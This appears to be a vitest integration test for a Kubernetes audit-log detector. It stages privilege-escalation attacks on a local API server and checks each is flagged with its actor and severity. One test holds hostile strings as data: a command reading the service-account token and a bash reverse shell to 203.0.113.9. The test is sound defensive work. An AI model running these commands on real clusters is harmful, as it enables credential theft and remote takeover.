/**
 * The audit log of a real API server: attacks are made and must be detected with the right actor; ordinary work is done
 * and must stay quiet.
 */
import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { nodeLogs } from '../../bin/node-logs.ts';
import { createAuditIntake } from '../../src/analyses/audit/audit-intake.ts';
import type { AuditEvent } from '../../src/model/audit-event.ts';
import type { AuditState } from '../../src/model/audit-state.ts';
import { readAuditLog } from '../../src/sources/audit/read-audit-log.ts';
import { answerNodeProxy } from '../../src/sources/demo/node-proxy.ts';
import { Reply } from '../../src/sources/demo/reply.ts';
import { nodeHost } from '../../src/sources/live/host.ts';
import { loadConnection } from '../../src/sources/live/kubeconfig.ts';
import { buildRemedies } from '../../src/remedy/build.ts';
import type { BuiltRemedy } from '../../src/remedy/built-remedy.ts';
import { clusterDay } from '../analyses/audit/cluster-day.ts';
import { auditEngine } from '../panes/audit/audit-engine.ts';
import { readText } from '../sources/audit/read-text.ts';
import { CERTIFICATE_REQUEST } from './certificate-request.ts';
import { addNode } from './fake-kubelet.ts';
import { send as sendTo, type Sent } from './send.ts';
import { findBinaries, startApiServer, type ApiServer } from './start-server.ts';

const POLICY = JSON.stringify({
  apiVersion: 'audit.k8s.io/v1',
  kind: 'Policy',
  rules: [
    { level: 'Metadata', resources: [{ group: '', resources: ['secrets', 'serviceaccounts/token'] }] },
    { level: 'RequestResponse' },
  ],
});
const RBAC = '/apis/rbac.authorization.k8s.io/v1';

let server: ApiServer;
let tokens: Readonly<Record<string, string>>;

/** A request without the administrator's certificate. */
function send(path: string, sent: Sent): Promise<number> {
  return sendTo(`${server.url}${path}`, sent);
}

async function account(namespace: string, name: string): Promise<string> {
  const base = `/api/v1/namespaces/${namespace}/serviceaccounts`;
  await server.request('POST', base, { body: { metadata: { name } } });
  const answer = await server.request('POST', `${base}/${name}/token`, {
    body: { apiVersion: 'authentication.k8s.io/v1', kind: 'TokenRequest', spec: {} },
  });
  return answer.json<{ status: { token: string } }>().status.token;
}

/** What one service account does, once, and what is to be found of it. */
interface Attack {
  readonly actor: string;
  /** Below the namespace shop where it does not begin with a slash. */
  readonly path: string;
  readonly status: number;
  readonly found: readonly string[];
}

/** Lets a service account do everything. */
async function bind(namespace: string, name: string): Promise<void> {
  await server.request('POST', `${RBAC}/clusterrolebindings`, {
    body: {
      metadata: { name },
      roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'too-much' },
      subjects: [{ kind: 'ServiceAccount', namespace, name }],
    },
  });
}

async function audited(): Promise<AuditState> {
  const intake = createAuditIntake();
  const notes = await readAuditLog([join(server.folder, 'audit.log')], { onEvents: (events) => intake.push(events) });
  for (const note of notes) intake.note(note);
  return intake.state();
}

function podSpec(extra: Record<string, unknown> = {}): Record<string, unknown> {
  return { containers: [{ name: 'c', image: 'registry.example/c:1', ...extra }] };
}

describe.skipIf(findBinaries() === undefined)('the audit log of a real API server', () => {
  beforeAll(async () => {
    // An API version that 1.37 removes.
    const flags = ['--runtime-config=networking.k8s.io/v1beta1=true'];
    server = await startApiServer({ auditPolicy: POLICY, flags });
    for (const namespace of ['shop', 'ops']) {
      await server.request('POST', '/api/v1/namespaces', { body: { metadata: { name: namespace } } });
      await server.request('POST', `/api/v1/namespaces/${namespace}/serviceaccounts`, {
        body: { metadata: { name: 'default' } },
      });
    }
    await server.request('POST', `${RBAC}/clusterroles`, {
      body: {
        metadata: { name: 'too-much' },
        rules: [{ apiGroups: ['*'], resources: ['*'], verbs: ['*'] }],
      },
    });
    const bound: [string, string][] = [
      ['shop', 'cart'],
      ['ops', 'operator'],
    ];
    tokens = Object.fromEntries(await Promise.all(bound.map(async ([ns, name]) => [name, await account(ns, name)])));
    for (const [namespace, name] of bound) await bind(namespace, name);
  });

  afterAll(async () => {
    await server.stop();
  });

  it('stays quiet on ordinary work', async () => {
    const token = tokens['operator'];
    const agent = 'operator/v1.2.3 (linux/amd64) kubernetes/abc';
    for (let round = 0; round < 20; round += 1) {
      await send('/api/v1/secrets?limit=500&resourceVersion=0', { token, agent });
      await send('/api/v1/namespaces/shop/configmaps?limit=500&resourceVersion=0', { token, agent });
      for (let secret = 0; secret < 8; secret += 1)
        await send(`/api/v1/namespaces/shop/secrets/s${secret}`, { token, agent });
      await send('/apis/apps/v1/namespaces/shop/deployments', {
        token,
        agent,
        method: 'POST',
        body: {
          metadata: { name: `web-${round}` },
          spec: {
            selector: { matchLabels: { a: 'b' } },
            template: { metadata: { labels: { a: 'b' } }, spec: podSpec() },
          },
        },
      });
      await send('/readyz', {});
    }
    const state = await audited();
    expect(state.total).toBeGreaterThan(400);
    expect(state.notes).toMatchObject([{ broken: 0, skipped: 0 }]);
    const operator = [...state.groups.values()].filter((group) => group.actor.username.endsWith(':ops:operator'));
    expect(operator.map((group) => [group.detection, group.severity])).not.toContainEqual([expect.anything(), 'high']);
    expect([...state.groups.values()].filter((group) => group.detection.startsWith('anonymous'))).toEqual([]);
  });

  it('names who asks for an API that a release removes', async () => {
    const token = tokens['operator'];
    for (let round = 0; round < 3; round += 1) {
      expect(await send('/apis/networking.k8s.io/v1beta1/ipaddresses', { token, agent: 'old-operator/0.1' })).toBe(200);
    }
    const { deprecatedCalls } = await audited();
    const caller = { username: 'system:serviceaccount:ops:operator', userAgent: 'old-operator/0.1', count: 3 };
    expect(deprecatedCalls.filter((call) => call.userAgent === 'old-operator/0.1')).toMatchObject([
      { group: 'networking.k8s.io', version: 'v1beta1', resource: 'ipaddresses', removedRelease: '1.37', ...caller },
    ]);
  });

  it('detects the attacks, each with its actor', async () => {
    const token = tokens['cart'];
    await send('/api/v1/secrets?limit=500', { token });
    await send('/apis/authorization.k8s.io/v1/selfsubjectrulesreviews', {
      token,
      method: 'POST',
      body: { apiVersion: 'authorization.k8s.io/v1', kind: 'SelfSubjectRulesReview', spec: { namespace: 'shop' } },
    });
    await send(`${RBAC}/clusterrolebindings`, {
      token,
      method: 'POST',
      body: {
        metadata: { name: 'mine' },
        roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'cluster-admin' },
        subjects: [{ kind: 'ServiceAccount', namespace: 'shop', name: 'cart' }],
      },
    });
    await send('/api/v1/namespaces/shop/pods', {
      token,
      method: 'POST',
      body: { metadata: { generateName: 'x-' }, spec: podSpec({ securityContext: { privileged: true } }) },
    });
    await send('/api/v1/namespaces/ops/serviceaccounts/operator/token', {
      token,
      method: 'POST',
      body: { apiVersion: 'authentication.k8s.io/v1', kind: 'TokenRequest', spec: {} },
    });
    await send('/apis/admissionregistration.k8s.io/v1/validatingwebhookconfigurations/guard', {
      token,
      method: 'DELETE',
    });
    await send('/apis/certificates.k8s.io/v1/certificatesigningrequests', {
      token,
      method: 'POST',
      body: {
        metadata: { name: 'mine' },
        spec: {
          request: CERTIFICATE_REQUEST,
          signerName: 'kubernetes.io/kube-apiserver-client',
          usages: ['client auth'],
        },
      },
    });
    for (let path = 0; path < 12; path += 1) await send(`/api/v1/namespaces/n${path}/pods`, {});
    for (let guess = 0; guess < 12; guess += 1) await send('/api/v1/pods', { token: `guess-${guess}` });
    await server.request('GET', '/api/v1/pods', { as: 'system:kube-controller-manager' });

    const { groups } = await audited();
    const cart = 'system:serviceaccount:shop:cart';
    const severity = (detection: string, actor: string): string | undefined =>
      groups.get(`${detection}|${actor}`)?.severity;
    expect({
      listed: severity('secrets-listed', cart),
      probed: severity('permission-probing', cart),
      bound: severity('cluster-admin-bound', cart),
      privileged: severity('privileged-pod-created', cart),
      token: severity('service-account-token-created', cart),
      request: severity('csr-created-or-approved', cart),
      scanned: severity('anonymous-scanning', 'system:anonymous'),
      guessed: severity('failed-authentication-burst', 'unauthenticated 127.0.0.1'),
      impersonated: severity('impersonation', 'admin'),
    }).toEqual({
      listed: 'high',
      probed: 'high',
      bound: 'critical',
      privileged: 'high',
      scanned: 'medium',
      guessed: 'medium',
      token: 'medium',
      // Admission refuses a request for system:masters.
      request: 'medium',
      impersonated: 'medium',
    });
    const name = groups.get(`privileged-pod-created|${cart}`)?.hours[0]?.text;
    expect(name).toMatch(/pods x-\w+ \(shop\); allowed by ClusterRoleBinding (?:cart|mine)/);
  });

  it('weighs what is done through a kubelet by what became of it', async () => {
    const kubelet = await addNode(server, 'n1', (_request, response) => response.end('[]'));
    const spec = podSpec();
    const make = (name: string, where: object): Promise<number> =>
      send('/api/v1/namespaces/shop/pods', {
        token: tokens['operator'],
        method: 'POST',
        body: { metadata: { name }, spec: { ...spec, ...where } },
      });
    expect([await make('running', { nodeName: 'n1' }), await make('waiting', {})]).toEqual([201, 201]);
    const proxy = '/api/v1/nodes/n1/proxy';
    const read = `command=cat&command=${encodeURIComponent('/var/run/secrets/kubernetes.io/serviceaccount/token')}`;
    const shell = `command=bash&command=-c&command=${encodeURIComponent('bash -i >& /dev/tcp/203.0.113.9/443 0>&1')}`;
    const attacks: readonly Attack[] = [
      { actor: 'reader', path: `pods/running/exec?${read}`, status: 101, found: ['exec-reads-credentials critical'] },
      { actor: 'shell', path: `pods/running/exec?${shell}`, status: 101, found: ['exec-reverse-shell critical'] },
      { actor: 'visitor', path: 'pods/running/exec?command=ls', status: 101, found: ['exec-into-pod medium'] },
      { actor: 'late', path: `pods/waiting/exec?${read}`, status: 400, found: ['exec-reads-credentials medium'] },
      { actor: 'lost', path: `pods/none/exec?${read}`, status: 404, found: ['exec-reads-credentials low'] },
      { actor: 'stranger', path: `pods/running/exec?${read}`, status: 403, found: ['exec-reads-credentials medium'] },
      { actor: 'runner', path: `${proxy}/run/shop/running/c`, status: 200, found: ['node-proxy-access critical'] },
      { actor: 'looker', path: `${proxy}/pods`, status: 200, found: ['node-proxy-access high'] },
      { actor: 'scraper', path: `${proxy}/metrics`, status: 200, found: [] },
      { actor: 'misser', path: '/api/v1/nodes/none/proxy/pods', status: 404, found: ['node-proxy-access low'] },
    ];
    const upgrade = { connection: 'Upgrade', upgrade: 'websocket', 'sec-websocket-version': '13' };
    const held = new Map<string, string>();
    for (const { actor } of attacks) {
      held.set(actor, await account('shop', actor));
      if (actor !== 'stranger') await bind('shop', actor);
    }
    // The authorizer hears of bindings in the order in which they were made.
    await vi.waitFor(async () => expect(await send('/api/v1/pods?limit=1', { token: held.get('misser') })).toBe(200));
    const statuses: number[] = [];
    for (const { actor, path } of attacks) {
      const [url, headers] = path.startsWith('/')
        ? [path, {}]
        : [`/api/v1/namespaces/shop/${path}&stdout=true`, upgrade];
      const method = path.includes('/run/') ? 'POST' : 'GET';
      statuses.push(await send(url, { token: held.get(actor), method, headers }));
    }
    kubelet.close();
    expect(statuses).toEqual(attacks.map(({ status }) => status));
    const groups = [...(await audited()).groups.values()];
    const foundOf = (name: string): readonly string[] =>
      groups.flatMap(({ actor, detection, severity }) =>
        actor.name === `system:serviceaccount:shop:${name}` ? [`${detection} ${severity}`] : [],
      );
    expect(attacks.map(({ actor }) => [actor, foundOf(actor)])).toEqual(
      attacks.map(({ actor, found }) => [actor, found]),
    );
  });

  it('reads the log through the proxy of its node, part by part, with what it was rotated to', async () => {
    const day = clusterDay(Date.parse('2026-11-23T00:00:00Z'));
    const text = (from: number, to: number): Buffer => Buffer.from(`${day.slice(from, to).join('\n')}\n`);
    const [old, rotated, current] = [gzipSync(text(0, 1000)), text(1000, 1100), text(1100, 4000)];
    const files = {
      'kubernetes/audit-2026-11-22T00-00-00.000.log.gz': () => Promise.resolve(old),
      'kubernetes/audit-2026-11-23T00-00-00.000.log': () => Promise.resolve(rotated),
      'kubernetes/audit.log': () => Promise.resolve(current),
    };
    const ranges: (string | undefined)[] = [];
    const kubelet = await addNode(server, 'control-plane-1', (request, response) => {
      ranges.push(request.headers.range);
      const path = `/api/v1/nodes/control-plane-1/proxy${request.url ?? ''}`;
      void answerNodeProxy(files, new Reply(request, response, undefined, Math.random), path, request.headers.range);
    });
    const command = ['kube-apiserver', '--audit-log-path=/var/log/kubernetes/audit.log'];
    const metadata = { name: 'kube-apiserver-control-plane-1', labels: { component: 'kube-apiserver' } };
    const spec = { ...podSpec({ command }), nodeName: 'control-plane-1' };
    const made = await server.request('POST', '/api/v1/namespaces/kube-system/pods', { body: { metadata, spec } });
    expect(made.status).toBe(201);
    const connection = await loadConnection({ kubeconfig: server.kubeconfig }, nodeHost());
    const logs = await nodeLogs(connection, new AbortController().signal);
    const seen: string[] = [];
    await readAuditLog([...(await logs.rotated(null)), ...logs.paths], {
      files: logs.files,
      onEvents: (events) => seen.push(...events.map(({ auditID }) => auditID)),
    });
    logs.close();
    kubelet.close();
    expect(seen).toEqual(day.slice(0, 4000).map((line) => (JSON.parse(line) as AuditEvent).auditID));
    expect(ranges).toContain('bytes=1048576-2097151');
  });

  it('takes the denial of a certificate request as it is written, once', async () => {
    const requests = '/apis/certificates.k8s.io/v1/certificatesigningrequests';
    const spec = { request: CERTIFICATE_REQUEST, signerName: 'example.org/any', usages: ['client auth'] };
    await send(requests, { token: tokens['cart'], method: 'POST', body: { metadata: { name: 'pending' }, spec } });
    const denial = async (): Promise<BuiltRemedy | undefined> => {
      const engine = auditEngine((await readText(await readFile(join(server.folder, 'audit.log'), 'utf8'))).events);
      const finding = [...engine.findings.values()].find(
        ({ rule, subject }) => rule === 'audit/csr-created-or-approved' && subject.name.endsWith(':cart'),
      );
      if (finding === undefined) throw new Error('no finding');
      return buildRemedies(engine, finding).find((one) => one.id === 'audit/deny-certificate-request');
    };
    const [manifest] = (await denial())?.manifests ?? [];
    const answer = await server.request('PATCH', `${requests}/pending/approval`, {
      body: manifest,
      contentType: 'application/merge-patch+json',
    });
    expect(answer.status).toBe(200);
    const pending = await server.request('GET', `${requests}/pending`);
    expect(pending.json()).toMatchObject({ status: { conditions: [{ type: 'Denied', status: 'True' }] } });
    expect((await denial())?.refused).toContain('Decided already: pending by admin.');
  });
});
